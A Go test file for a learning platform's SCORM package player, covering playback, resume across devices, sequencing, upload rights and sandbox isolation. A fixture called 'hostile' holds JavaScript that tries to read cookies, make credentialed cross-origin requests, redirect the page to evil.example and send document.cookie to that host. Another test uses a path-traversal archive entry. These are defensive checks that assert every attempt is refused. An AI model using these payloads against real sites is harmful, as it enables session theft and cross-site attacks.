package learning_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"tianti/courses"
	"tianti/courses/scorm/scormtest"
	"tianti/internal/locale"
	"tianti/rbac/rbactest"
	"tianti/web/webtest"
)

// package makes a live course of one lesson that plays a package, and enrols trainee1.
func (s *school) packaged(t *testing.T, code string, archive []byte) *courses.Enrolment {
	t.Helper()
	by, ctx := s.Actor("manager1"), t.Context()
	p, err := s.Unpack(ctx, by, code+".zip", bytes.NewReader(archive))
	if err != nil {
		t.Fatal(err)
	}
	content := courses.Content{Title: locale.Text{Zh: "课件 " + code}, Line: courses.Ability, Tier: courses.Group, Step: "F1", Hours: 1,
		Lessons: []courses.Lesson{{ID: "play", Kind: courses.Packaged, Title: locale.Text{Zh: "播放"}, Minutes: 10, Package: p.ID}}}
	if _, err := s.Create(ctx, by, rbactest.GroupPath, code, content, "test"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Publish(ctx, by, code, "test"); err != nil {
		t.Fatal(err)
	}
	me := s.Actor("trainee1")
	e, err := s.Enrol(ctx, me, code, me.Person, "")
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// launch is the address of a player for trainee1, as the page asks for it.
func (s *school) launch(t *testing.T, e *courses.Enrolment) string {
	t.Helper()
	var said struct{ URL string }
	s.site.API("trainee1", "POST", "/api/v1/enrolments/"+e.ID+"/lessons/play/launch", nil).Status(201).JSON(&said)
	return said.URL
}

func (s *school) progress(t *testing.T, e *courses.Enrolment) courses.Step {
	t.Helper()
	e, _, err := s.Enrolment(t.Context(), s.Actor("trainee1"), e.ID)
	if err != nil {
		t.Fatal(err)
	}
	return e.Step("play")
}

// until waits for something that the server has once the browser has done what it does by itself. It looks
// again whenever the page has had a turn.
func until(t *testing.T, tab *webtest.Tab, what string, is func() bool) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for !is() {
		if time.Now().After(deadline) {
			t.Fatalf("waited in vain: %s", what)
		}
		tab.Turn()
	}
}

// stage is the window of the activity that runs: it is of one origin with the player.
const stage = `document.getElementById("stage").contentWindow`

func TestAGolfPackageOfNineActivitiesIsPlayedToItsEnd(t *testing.T) {
	s := open(t)
	e := s.packaged(t, "GOLF-12", scormtest.Golf12)
	tab := webtest.OpenTab(t, webtest.Browser(t), s.site.URL, 1280, 900)
	tab.Visit(s.launch(t, e))
	next := `document.getElementById("on")`
	for n := 1; ; n++ {
		tab.Until("the page", stage+`.document.readyState === "complete" && `+stage+`.location.href !== "about:blank"`)
		quiz := webtest.Eval[bool](tab, `Boolean(`+stage+`.document.getElementById("frmTest"))`)
		if quiz {
			said := webtest.Eval[string](tab, `(() => { const d = `+stage+`.document; for (const f of d.querySelectorAll(".correctAnswer input")) f.type === "text" ? f.value = f.parentNode.textContent.replace(/[^0-9]/g, "") : f.checked = true;
				`+stage+`.SubmitAnswers(); return d.querySelector("#test h3").textContent; })()`)
			if said != "Score: 100" {
				t.Errorf("the quiz says %q", said)
			}
		}
		if webtest.Eval[bool](tab, next+`.disabled`) {
			t.Fatalf("no way on after %d", n)
		}
		if n == 9 {
			webtest.Eval[bool](tab, `(`+next+`.click(), true)`)
			break
		}
		webtest.Eval[bool](tab, `(`+next+`.click(), true)`)
		want := n + 1
		tab.Until("the next activity", fmt.Sprintf(`[...document.querySelectorAll("#contents [aria-current]")].length && [...document.querySelectorAll("#contents li")].filter((l) => !l.querySelector("ol")).findIndex((l) => l.querySelector("[aria-current]")) + 1 === %d`, want))
	}
	until(t, tab, "the last report", func() bool { return s.progress(t, e).Position == 1000 })
	if st := s.progress(t, e); !st.Done || st.Score != 1000 || st.Position != 1000 {
		t.Errorf("%+v", st)
	}
	done, _, err := s.Enrolment(t.Context(), s.Actor("trainee1"), e.ID)
	if err != nil || done.State != courses.Done {
		t.Errorf("%+v %v", done, err)
	}
	for _, trouble := range tab.Troubles() {
		t.Error(trouble)
	}
}

func TestAPackageGoesOnOnAnotherDeviceAndTheFirstOneStops(t *testing.T) {
	s := open(t)
	e := s.packaged(t, "GOLF-2004", scormtest.Golf2004)
	browser := webtest.Browser(t)
	first := webtest.OpenTab(t, browser, s.site.URL, 1280, 900)
	first.Visit(s.launch(t, e))
	first.Until("the package begins", `Boolean(`+stage+`.doNext && `+stage+`.currentPage === 0)`)
	webtest.Eval[bool](first, `(() => { for (let i = 0; i < 3; i++) `+stage+`.doNext(); return API_1484_11.Commit("") === "true"; })()`)

	second := webtest.OpenTab(t, browser, s.site.URL, 390, 844)
	second.Visit(s.launch(t, e)) // the package asks whether to go on; the tab says yes
	second.Until("the bookmark", `Boolean(`+stage+`.doNext && `+stage+`.currentPage === 3)`)
	if said := webtest.Eval[string](first, `API_1484_11.Commit("")`); said != "false" {
		t.Errorf("the device that was left may still report: %s", said)
	}

	// The pages of the package talk to each other: the test in its inner frame hands its score to the outer one.
	webtest.Eval[bool](second, `(() => { const w = `+stage+`; while (w.currentPage < w.pageArray.length - 1) w.doNext(); return true; })()`)
	inner := stage + `.document.getElementById("contentFrame").contentWindow`
	second.Until("the quiz", `Boolean(`+inner+`.document.getElementById("frmTest"))`)
	webtest.Eval[bool](second, `(`+inner+`.parent.RecordTest(85), `+stage+`.doExit(), true)`)
	until(t, second, "the result", func() bool { return s.progress(t, e).Done })
	if st := s.progress(t, e); st.Score != 850 {
		t.Errorf("%+v", st)
	}
	second.See("#again:not([hidden])")
}

func TestSequencingLeadsAroundWhatIsKnown(t *testing.T) {
	s := open(t)
	e := s.packaged(t, "SEQ", scormtest.Sequenced(t))
	tab := webtest.OpenTab(t, webtest.Browser(t), s.site.URL, 390, 844)
	tab.Visit(s.launch(t, e))
	at := func(want string) {
		t.Helper()
		tab.Until("activity "+want, `(`+stage+`.document.getElementById("h") || {}).textContent === "`+want+`"`)
	}
	at("pre")
	webtest.Eval[string](tab, stage+`.report("", "0.9", "continue")`)
	at("test")
	webtest.Eval[string](tab, stage+`.report("", "0.2", "continue")`)
	tab.Until("the failed test begins again", `Boolean(`+stage+`.report && API_1484_11.isInitialized() && API_1484_11.GetValue("cmi.entry") === "ab-initio")`)
	if st := s.progress(t, e); st.Done {
		t.Errorf("failed, and done: %+v", st)
	}
	webtest.Eval[string](tab, stage+`.report("", "0.75", "continue")`)
	until(t, tab, "the result", func() bool { return s.progress(t, e).Done })
	if st := s.progress(t, e); st.Score != 750 {
		t.Errorf("%+v", st)
	}
}

// hostile tries what a package must not do, and reports what came of it as its suspend data.
const hostile = `<!doctype html><meta charset="utf-8"><title>Hostile</title><body><script>
(async () => {
  const got = {}, site = new URLSearchParams(location.search).get("site");
  const attempt = async (name, what) => { try { got[name] = String(await what()).slice(0, 80); } catch (e) { got[name] = "refused"; } };
  const late = (p) => Promise.race([p, new Promise((_, no) => setTimeout(() => no(new Error("late")), 1500))]);
  const image = (src) => late(new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("loaded"); i.onerror = no; i.src = src; }));
  const frame = (src) => late(new Promise((yes, no) => { const f = document.createElement("iframe"); f.onload = () => { try { yes(f.contentDocument && f.contentDocument.body && f.contentDocument.body.innerText.length > 9 ? "read" : no(new Error("empty"))); } catch (e) { no(e); } }; f.src = src; document.body.append(f); }));
  await attempt("cookies", () => document.cookie || Promise.reject());
  await attempt("own api", () => fetch("/api/v1/me").then((r) => r.status));
  await attempt("own session page", () => fetch("/learning").then((r) => r.status));
  await attempt("site api", () => fetch(SITE + "/api/v1/me", { credentials: "include" }).then((r) => r.status));
  await attempt("site write", () => fetch(SITE + "/lang", { method: "POST", mode: "no-cors", credentials: "include", body: "to=en" }).then((r) => r.type));
  await attempt("site image", () => image(SITE + "/static/mark.svg"));
  await attempt("other site", () => image("https://evil.example/x.png?" + document.cookie));
  await attempt("site frame", () => frame(SITE + "/learning"));
  await attempt("own frame", () => frame("/learning"));
  await attempt("page above", () => top === window.parent ? Promise.reject() : top.document.title);
  await attempt("leave", () => { top.location.href = "https://evil.example/"; return "left"; });
  await attempt("window", () => window.open("https://evil.example/") ? "opened" : Promise.reject());
  await attempt("worker", () => navigator.serviceWorker.register("sw.js").then(() => "registered"));
  await attempt("socket", () => late(new Promise((yes, no) => { const w = new WebSocket(SITE.replace("http", "ws") + "/"); w.onopen = () => yes("open"); w.onerror = no; })));
  await attempt("script", () => late(new Promise((yes, no) => { const e = document.createElement("script"); e.src = SITE + "/static/none.js"; e.onload = () => yes("run"); e.onerror = no; document.body.append(e); })));
  let api = window; while (!api.API && api.parent !== api) api = api.parent;
  api = api.API;
  api.LMSInitialize("");
  api.LMSSetValue("cmi.suspend_data", JSON.stringify(got));
  api.LMSSetValue("cmi.core.lesson_status", "incomplete");
  window.finished = api.LMSCommit("");
})();
</script>`

func TestAHostilePackageReachesNothing(t *testing.T) {
	s := open(t)
	e := s.packaged(t, "HOSTILE", scormtest.Single(t, strings.ReplaceAll(hostile, "SITE", `"`+s.site.URL+`"`)))
	tab := webtest.OpenTab(t, webtest.Browser(t), s.site.URL, 1280, 900)
	tab.Cookie("access", s.site.Sessions.Token("trainee1"))
	// Through the page, as a learner meets it: the player stands in a frame of another origin.
	tab.Go("/learn/HOSTILE/play")
	tab.See("#play-frame:not([hidden])")
	var got map[string]string
	until(t, tab, "the package has tried", func() bool {
		data, err := s.Kept(t.Context(), s.Actor("trainee1"), e.ID, "play")
		if err != nil {
			t.Fatal(err)
		}
		var cmi struct {
			Suspend string `json:"suspend_data"`
		}
		return len(data) == 1 && json.Unmarshal([]byte(data["i"]), &cmi) == nil && json.Unmarshal([]byte(cmi.Suspend), &got) == nil
	})
	for what, came := range got {
		if came != "refused" && came != "404" {
			t.Errorf("%s: %s", what, came)
		}
	}
	if len(got) < 15 {
		t.Errorf("it tried only %v", got)
	}
	if tab.At() != "/learn/HOSTILE/play" {
		t.Errorf("it led the page to %s", tab.At())
	}
	if st := s.progress(t, e); st.Done {
		t.Errorf("%+v", st)
	}
}

func TestTheContentsHostKnowsNothingElse(t *testing.T) {
	s := open(t)
	e := s.packaged(t, "HOSTS", scormtest.Single(t, "<p>hello"))
	u, err := url.Parse(s.launch(t, e))
	if err != nil {
		t.Fatal(err)
	}
	content := s.site.Content()
	if h := content.Get(u.Path).Status(200).Header; !strings.Contains(h.Get("Content-Security-Policy"), "sandbox allow-scripts") || h.Get("Set-Cookie") != "" {
		t.Errorf("%v", h)
	}
	csp := content.Get(u.Path + "/files/index.html").Status(200).Has("hello").Header.Get("Content-Security-Policy")
	for _, want := range []string{"connect-src http://" + u.Host + u.Path + "/ ", "frame-ancestors http://" + u.Host + " " + s.site.URL, "worker-src 'none'", "form-action http://" + u.Host + u.Path + "/;"} {
		if !strings.Contains(csp, want) {
			t.Errorf("no %q in %s", want, csp)
		}
	}
	for _, path := range []string{"/", "/learning", "/login", "/api/v1/me", "/api/openapi.json", "/files/x", u.Path + "/files/../../learning", u.Path + "/files/none.html", "/play/other", "/play/other/files/index.html"} {
		content.Get(path).Status(404)
	}
	for _, path := range []string{u.Path, u.Path + "/files/index.html"} {
		s.site.As("trainee1").Get(path).Status(404) // nor does the site's own host show content
	}
	s.Clock.Advance(2 * time.Hour)
	content.Get(u.Path + "/files/index.html").Status(404)
}

func TestOnlyAuthorsUploadAndOnlyLearnersPlay(t *testing.T) {
	s := open(t)
	e := s.packaged(t, "GATES", scormtest.Single(t, "<p>hello"))
	put := func(who string, body []byte) *webtest.Answer {
		return s.site.As("").Do("POST", "/api/v1/course-files?as=package&name=x.zip", string(body), "Authorization", "Bearer "+s.site.Sessions.Token(who))
	}
	put("trainee1", scormtest.Golf12).Status(403)
	put("trainer1", scormtest.Golf12).Status(201).Has(`"standard":"1.2"`, `"Playing Golf Quiz"`)
	put("trainer1", []byte("not a zip")).Problem(400, "file.type")
	put("trainer1", scormtest.Zip(t, map[string]string{"a/imsmanifest.xml": "<manifest/>"})).Problem(400, "courses.package.no_manifest")
	put("trainer1", scormtest.Zip(t, map[string]string{"imsmanifest.xml": "<manifest/>", "../evil.html": "x"})).Problem(400, "archive.name")
	for _, who := range []string{"agent1", "manager1", "leader1"} {
		s.site.API(who, "POST", "/api/v1/enrolments/"+e.ID+"/lessons/play/launch", nil).Status(403)
	}
	s.site.API("trainee1", "PUT", "/api/v1/enrolments/"+e.ID+"/lessons/play", map[string]any{"done": true}).Problem(409, "courses.package.by_play")
	if st := s.progress(t, e); st.Done {
		t.Errorf("%+v", st)
	}
}
